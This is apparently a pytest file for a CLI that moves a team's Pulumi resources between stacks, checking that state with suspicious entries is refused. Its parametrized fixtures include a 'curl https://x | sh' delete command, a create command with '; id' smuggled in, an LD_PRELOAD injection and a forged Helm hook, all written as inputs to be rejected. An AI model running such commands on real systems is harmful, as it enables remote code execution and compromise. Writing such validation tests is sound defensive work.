"""`fleet team move`: which of Pulumi's commands take a team along, and what is said."""

import re
from types import SimpleNamespace

import pytest
from pulumi.automation import CommandResult
from pulumi.automation.errors import create_command_error

from kai_fleet import probes
from kai_fleet.releases.helm_record import Forged
from kai_fleet_cli import cluster_reader
from kai_fleet_cli.engine import runs
from kai_fleet_cli.recovery import live_cluster, state
from kai_fleet_cli.recovery.state import ExportedState
from kai_fleet_cli.teams import move
from kubectl_fleet.errors import UserError

TEAM = "urn:pulumi:{}::kai-fleet::kai-fleet:index:Team::ml"


LAB = TEAM.format("lab")


def resource(urn, kind, parent=LAB, **more):
    return {"urn": urn, "type": kind, "parent": parent, **more}


INSIDE = LAB.replace("Team::", "Team$kai-fleet:index:VirtualCluster::")
PROVIDER = INSIDE.replace("VirtualCluster::", "VirtualCluster$pulumi:providers:kubernetes::")
KAI = LAB.replace("Team::ml", "Team$kai-fleet:index:KaiScheduler::ml-kai")
QUEUES = LAB.replace("Team::ml", "Team$kai-fleet:index:Queues::ml-queues")
VIRTUAL = [
    resource(LAB, "kai-fleet:index:Team", ""),
    resource(INSIDE, "kai-fleet:index:VirtualCluster"),
    resource(PROVIDER, "pulumi:providers:kubernetes", INSIDE),
    resource(KAI, "kai-fleet:index:KaiScheduler"),
    resource(f"{KAI}-a", "kubernetes:helm.sh/v3:Release", KAI, provider=f"{PROVIDER}::an-id"),
    resource(f"{KAI}-b", "kubernetes:core/v1:Namespace", KAI, provider=f"{PROVIDER}::an-id"),
    resource(QUEUES, "kai-fleet:index:Queues", deletedWith=PROVIDER),
]
MOVE = ["state", "move", "--yes", "--source", "lab", "--dest", "lab-ml"]
HOST_PROVIDER = "urn:pulumi:lab::kai-fleet::pulumi:providers:kubernetes::host"
RELEASE = {
    "urn": f"urn:pulumi:lab::kai-fleet::kai-fleet:index:VirtualCluster${state.RELEASE}::ml-release",
    "type": state.RELEASE,
    "inputs": {"namespace": "team-ml", "name": "ml"},
    "provider": f"{HOST_PROVIDER}::id",
    "parent": INSIDE,
}
HOST = {"urn": HOST_PROVIDER, "type": "pulumi:providers:kubernetes", "inputs": {}}


def moved(monkeypatch, resources=VIRTUAL, *, agree=lambda: None, refused=(), more=()):
    """What is said, and what Pulumi was asked to run; it refuses the commands of these numbers."""
    said, ran = [], []

    def run(command, folder, variables):
        ran.append(command)
        if len(ran) in refused:
            raise create_command_error(CommandResult("", "error: it says why", 255))

    workspace = SimpleNamespace(pulumi_command=SimpleNamespace(run=run), work_dir=".")
    monkeypatch.setattr(
        runs, "stack", lambda name, *_: SimpleNamespace(name=name, workspace=workspace)
    )
    held = {"lab": ExportedState({"resources": [*resources, *more]})}
    for read in ("exported", "read"):
        monkeypatch.setattr(state, read, lambda it: held.get(it.name, ExportedState({})))
    move.move("ml", "lab", "lab-ml", {}, said.append, agree)
    return said, ran


def test_what_is_inside_goes_before_its_provider_and_the_rest(monkeypatch):
    """A move leaves providers behind, and the CLI leaves none without its parent."""
    said, ran = moved(monkeypatch)
    assert ran == [
        [*MOVE, KAI, QUEUES],
        ["state", "delete", "--yes", "--stack", "lab", PROVIDER],
        [*MOVE, LAB],
    ]
    assert said[:3] == [f"pulumi {' '.join(command)}" for command in ran]
    assert said[3:] == ["team ml is now in stack lab-ml; nothing of it was touched"]


def test_a_team_with_nothing_inside_moves_without_its_provider(monkeypatch):
    _, ran = moved(monkeypatch, VIRTUAL[:3])
    assert [command[1] for command in ran] == ["delete", "move"]


def test_a_no_runs_nothing(monkeypatch):
    def no():
        raise UserError("nothing is changed")

    with pytest.raises(UserError, match="nothing is changed"):
        moved(monkeypatch, agree=no, refused=(1, 2, 3))


def test_a_refusal_says_at_what_and_how_to_go_on(monkeypatch):
    with pytest.raises(UserError, match=r"stays in stack lab: `pulumi state move`: .*it says why$"):
        moved(monkeypatch, refused=(1,))
    with pytest.raises(UserError, match=r"`pulumi state delete`: .*: run the same command again"):
        moved(monkeypatch, refused=(2,))


class Records:
    """The cluster of the team's own stack, whose account wrote the record."""

    forged_ones = ()

    def __init__(self, provider, kubeconfig):
        assert provider == {}

    def forged(self, namespace, name):
        assert (namespace, name) == ("team-ml", "ml")
        if self.forged_ones is None:
            raise cluster_reader.NoAnswerError("it does not answer")
        return list(self.forged_ones)


@pytest.mark.parametrize("records", [(), None])
def test_a_record_that_is_well_or_not_read_stops_no_move(monkeypatch, records):
    monkeypatch.setattr(Records, "forged_ones", records)
    monkeypatch.setattr(live_cluster, "LiveCluster", Records)
    said, ran = moved(monkeypatch, more=[HOST, RELEASE])
    assert len(ran) == 3
    unread = any("was not looked at: it does not answer" in it for it in said)
    assert unread is (records is None)


def test_a_record_that_somebody_wrote_does_not_come_along(monkeypatch):
    forged = [Forged("sh.helm.release.v1.ml.v9", "has a hook, Job steal")]
    monkeypatch.setattr(Records, "forged_ones", forged)
    monkeypatch.setattr(live_cluster, "LiveCluster", Records)
    with pytest.raises(UserError, match="has a hook, Job steal") as why:
        moved(monkeypatch, more=[HOST, RELEASE])
    assert "Nothing was done" in str(why.value)


HOST_ID = f"{HOST_PROVIDER}::id"
OWN = {"delete": probes.command("pods"), "environment": {"PODS_NAMESPACE": "team-ml"}}


def beside(kind, inputs, **more):
    """A part of the vCluster that its own stack's state has, and its providers."""
    urn = INSIDE.replace("VirtualCluster::ml", f"VirtualCluster${kind}::odd")
    return [resource(urn, kind, INSIDE, inputs=inputs, provider=HOST_ID, **more), HOST]


@pytest.mark.parametrize(
    ("kind", "inputs", "says"),
    [
        ("command:local:Command", {"delete": "curl https://x | sh"}, "has another delete"),
        ("command:local:Command", {"create": f"{probes.command('pods')}; id"}, "another create"),
        ("command:local:Command", OWN | {"interpreter": ["/bin/x"]}, "has interpreter"),
        ("command:local:Command", {"environment": {"LD_PRELOAD": "/x"}}, "sets LD_PRELOAD"),
        ("command:local:Command", {"environment": {"KAI_FLEET_X": "y"}}, "sets KAI_FLEET_X"),
        ("command:remote:Command", {}, "is a command:remote:Command"),
        ("pulumi:providers:other", {}, "is a pulumi:providers:other"),
        (
            "pulumi:providers:kubernetes",
            {"__internal": {"pluginDownloadURL": "https://x"}},
            "says where its plugin comes from",
        ),
    ],
)
def test_what_the_other_stack_would_run_moves_nowhere(monkeypatch, kind, inputs, says):
    """A team's own stack writes its state; the engine deletes by it what is not declared."""
    with pytest.raises(UserError, match=f"odd in the state of stack lab .*{re.escape(says)}"):
        moved(monkeypatch, more=beside(kind, inputs))


def test_what_this_program_declares_moves(monkeypatch):
    own = {"create": 'printf %s "$CLUSTER"', "environment": {"CLUSTER": "x"}, "triggers": ["x"]}
    for inputs in (OWN, own, {"update": probes.command("kai", "wait"), "logging": "stderr"}):
        said, _ = moved(monkeypatch, more=beside("command:local:Command", inputs))
        assert not [it for it in said if it.startswith("warning")]


def test_a_kubeconfig_that_goes_along_is_told_before_the_question(monkeypatch):
    plain = "clusters: []\nusers: []\n"
    for text, warnings in ((plain, 1), (f"{plain}x: {{exec: {{command: aws}}}}\n", 2)):
        monkeypatch.setitem(HOST, "inputs", {"kubeconfig": text})
        said, _ = moved(monkeypatch, more=beside("command:local:Command", OWN))
        assert len([it for it in said if it.startswith("warning")]) == warnings


def test_before_the_question_no_kubeconfig_of_the_state_is_used(monkeypatch):
    def no():
        raise UserError("nothing is changed")

    monkeypatch.setattr(live_cluster, "LiveCluster", pytest.fail)
    with pytest.raises(UserError, match="nothing is changed"):
        moved(monkeypatch, agree=no, more=[HOST, RELEASE])


def test_a_kubeconfig_that_was_not_told_of_is_not_used(monkeypatch):
    """A team's own stack writes its state: a release of its name beside the team, by a program."""
    own = HOST | {"urn": f"{HOST_PROVIDER}-2", "inputs": {"kubeconfig": "users: [{exec: {}}]\n"}}
    other = RELEASE | {"parent": "", "provider": f"{HOST_PROVIDER}-2::id"}
    monkeypatch.setattr(live_cluster, "LiveCluster", pytest.fail)
    said, ran = moved(monkeypatch, more=[own, other])
    assert len(ran) == 3
    assert not [it for it in said if it.startswith("warning")]
